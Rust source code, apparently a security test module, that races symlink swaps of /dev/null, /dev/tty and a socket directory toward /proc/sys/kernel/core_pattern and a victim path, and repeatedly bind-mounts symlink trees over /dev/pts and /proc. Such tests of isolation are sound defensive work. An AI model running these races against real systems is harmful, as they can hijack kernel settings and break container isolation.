//! Names that mean something else at every moment (SEC-03, SEC-04, SEC-05).

use std::{
    ffi::CString,
    fs,
    os::unix::fs::symlink,
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::{Duration, Instant},
};

use crate::{Report, call};

/// What names are led to: the first is a lever of the kernel, the second something that the host has.
const LEVER: &str = "/proc/sys/kernel/core_pattern";

/// Until a file `stop` appears in the directory: exchanges `/dev/null`, `/dev/tty` and the directory of the
/// service socket with links, and covers `/dev/pts` and `/proc` with trees full of links and takes the covers away
/// again. Everything is back at its place then. Reports how often.
pub fn swaps(dir: &str, victim: &str) -> Report {
    let stop = AtomicBool::new(false);
    let count = |work: &dyn Fn()| {
        let mut rounds = 0;
        while !stop.load(Ordering::Relaxed) {
            work();
            rounds += 1;
        }
        rounds
    };
    let exchanges = [
        ("/dev/null", LEVER),
        ("/dev/tty", victim),
        ("/run/socket", victim),
    ];
    let covers = ["/dev/pts", "/proc"];
    let rounds = thread::scope(|scope| {
        let mut threads = Vec::new();
        for (name, target) in exchanges {
            let other = format!("{name}.other");
            symlink(target, &other).unwrap();
            let work = move || {
                exchange(name, &other);
                exchange(name, &other);
            };
            threads.push(scope.spawn(move || count(&work)));
        }
        for at in covers {
            let tree = format!("{dir}/cover{}", at.replace('/', "-"));
            plant(&tree, victim);
            threads.push(scope.spawn(move || {
                count(&|| {
                    bind(&tree, at);
                    let at = CString::new(at).unwrap();
                    let flags = libc::MNT_DETACH as u64;
                    call(libc::SYS_umount2, &[at.as_ptr() as u64, flags]);
                })
            }));
        }
        let end = Instant::now() + Duration::from_secs(120);
        fs::write(format!("{dir}/swaps"), "").unwrap();
        while !fs::exists(format!("{dir}/stop")).unwrap() && Instant::now() < end {
            thread::sleep(Duration::from_millis(20));
        }
        stop.store(true, Ordering::Relaxed);
        threads
            .into_iter()
            .map(|thread| thread.join().unwrap())
            .min()
    });
    [("rounds".to_owned(), rounds.unwrap_or_default())].into()
}

/// A tree that has what is looked for in `/dev/pts` and in `/proc`, all of it links.
fn plant(tree: &str, victim: &str) {
    for dir in ["self/ns", "self/attr", "thread-self/attr"] {
        fs::create_dir_all(format!("{tree}/{dir}")).unwrap();
    }
    for name in [
        "ptmx",
        "0",
        "self/ns/time",
        "self/fd",
        "self/attr/exec",
        "self/timens_offsets",
    ] {
        symlink(victim, format!("{tree}/{name}")).unwrap();
    }
}

fn exchange(a: &str, b: &str) {
    let [a, b] = [a, b].map(|text| CString::new(text).unwrap());
    let here = libc::AT_FDCWD as u64;
    let exchange = libc::RENAME_EXCHANGE.into();
    let args = [here, a.as_ptr() as u64, here, b.as_ptr() as u64, exchange];
    call(libc::SYS_renameat2, &args);
}

fn bind(tree: &str, at: &str) {
    let [tree, at] = [tree, at].map(|text| CString::new(text).unwrap());
    let args = [
        tree.as_ptr() as u64,
        at.as_ptr() as u64,
        0,
        libc::MS_BIND,
        0,
    ];
    call(libc::SYS_mount, &args);
}
